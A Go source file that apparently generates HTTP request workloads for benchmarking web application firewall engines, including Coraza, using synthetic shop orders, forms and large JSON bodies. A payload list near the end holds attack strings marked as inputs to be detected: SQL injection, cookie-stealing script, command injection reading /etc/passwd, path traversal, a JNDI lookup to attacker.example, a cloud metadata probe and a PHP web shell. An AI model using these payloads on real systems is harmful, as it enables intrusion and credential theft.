package main

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
)

// request is one HTTP request, for both engines.
type request struct {
	method, path, query string
	headers             [][2]string
	body                string
	event               []byte // the same as an event; made before the clock runs
}

// workload makes requests, every one with values of its own: a memo must not flatter anybody.
type workload struct {
	name   string
	attack bool // it has to be found
	long   bool // it takes stock Coraza many seconds
	make   func(n int) request
}

var workloads = []workload{
	{name: "GET, 5 arguments, 12 headers", make: get},
	{name: "JSON, 123 B", make: func(n int) request { return post("application/json", small(n)) }},
	{name: "JSON, 200 B", make: func(n int) request { return post("application/json", order(n, 1)) }},
	{name: "JSON, 2 KB", make: func(n int) request { return post("application/json", order(n, 24)) }},
	{name: "form, 1 KB", make: func(n int) request { return post("application/x-www-form-urlencoded", form(n)) }},
	{name: "prose, 10 KB in one string", make: func(n int) request { return post("application/json", prose(n, 10<<10)) }},
	{name: "JSON, 42 KB, 1,500 strings", make: func(n int) request { return post("application/json", leaves(n, 1500, "")) }},
	{name: "the same with one injection", attack: true, make: func(n int) request {
		return post("application/json", leaves(n, 1500, "1' UNION SELECT password FROM users--"))
	}},
	{name: "small attacks", attack: true, make: attack},
	{name: "JSON, 256 KB", long: true, make: func(n int) request { return post("application/json", leaves(n, 9100, "")) }},
}

var browser = [][2]string{
	{"host", "shop.example.com"},
	{"user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"},
	{"accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
	{"accept-language", "de-AT,de;q=0.8,en;q=0.5"},
	{"accept-encoding", "gzip, deflate, br"},
	{"referer", "https://shop.example.com/start"},
	{"sec-fetch-dest", "document"},
	{"sec-fetch-mode", "navigate"},
	{"sec-fetch-site", "same-origin"},
	{"upgrade-insecure-requests", "1"},
	{"cache-control", "no-cache"},
}

func get(n int) request {
	q := url.Values{
		"page": {fmt.Sprint(n)}, "sort": {"price"}, "category": {fmt.Sprintf("garden-%d", n)}, "q": {fmt.Sprintf("red chair %d", n)},
		"session": {fmt.Sprintf("%032x", n*7919)},
	}
	headers := append([][2]string{{"cookie", fmt.Sprintf("sid=%032x; theme=dark", n)}}, browser...)
	return request{method: "GET", path: "/products", query: q.Encode(), headers: headers}
}

func post(contentType, body string) request {
	headers := append([][2]string{{"content-type", contentType}, {"content-length", fmt.Sprint(len(body))}}, browser[:6]...)
	return request{method: "POST", path: "/orders", headers: headers, body: body}
}

func small(n int) string {
	return fmt.Sprintf(`{"customer":"C-%06d","sku":"chair-%d","amount":%d,"currency":"EUR","note":"please ring twice","city":"Graz","n":%d}`, n, n%97, n%9, n)
}

func order(n, items int) string {
	type item struct {
		SKU    string  `json:"sku"`
		Name   string  `json:"name"`
		Amount int     `json:"amount"`
		Price  float64 `json:"price"`
	}
	o := struct {
		ID       string `json:"id"`
		Customer string `json:"customer"`
		City     string `json:"city"`
		Items    []item `json:"items"`
	}{ID: fmt.Sprintf("%08x-7c1b-4f0e-8a55-%012x", n, n*31), Customer: fmt.Sprintf("Anna Huber %d", n), City: "Linz"}
	for i := range items {
		o.Items = append(o.Items, item{fmt.Sprintf("SKU-%d-%d", n, i), fmt.Sprintf("Garden chair number %d", n+i), 1 + i%4, 19.9})
	}
	return encoded(o)
}

func form(n int) string {
	v := url.Values{}
	for i := range 24 {
		v.Set(fmt.Sprintf("field%d", i), fmt.Sprintf("value %d of the form %d", i, n))
	}
	return v.Encode()
}

var sentences = []string{
	"The delivery came on a Tuesday, and nobody was at home to take it.",
	"We'd like to select another colour from your catalogue if there is one.",
	"My neighbour says the chair's left leg is shorter; it isn't, the floor is.",
	"Please update the order and drop the second table, or send it later.",
	"Is it true that the cushions are not included where the picture shows them?",
}

func prose(n, size int) string {
	var b strings.Builder
	for i := 0; b.Len() < size; i++ {
		fmt.Fprintf(&b, "%s (%d) ", sentences[(n+i)%len(sentences)], n*31+i)
	}
	return encoded(map[string]string{"text": b.String()})
}

func leaves(n, count int, payload string) string {
	v := make(map[string]string, count)
	for i := range count {
		v[fmt.Sprintf("key%d", i)] = fmt.Sprintf("val %d %d", n, i*13)
	}
	if payload != "" {
		v["key777"] = payload
	}
	return encoded(v)
}

var payloads = []string{
	"1' UNION SELECT password FROM users--", "<script>alert(document.cookie)</script>", "; cat /etc/passwd", "../../../../etc/passwd",
	"${jndi:ldap://attacker.example/a}", "http://169.254.169.254/latest/meta-data/", "<?php system($_GET['c']); ?>",
}

func attack(n int) request {
	q := url.Values{"id": {fmt.Sprint(n)}, "x": {payloads[n%len(payloads)]}}
	return request{method: "GET", path: "/products", query: q.Encode(), headers: browser}
}

func encoded(v any) string {
	text, err := json.Marshal(v)
	if err != nil {
		panic("a value of this file's own: " + err.Error())
	}
	return string(text)
}
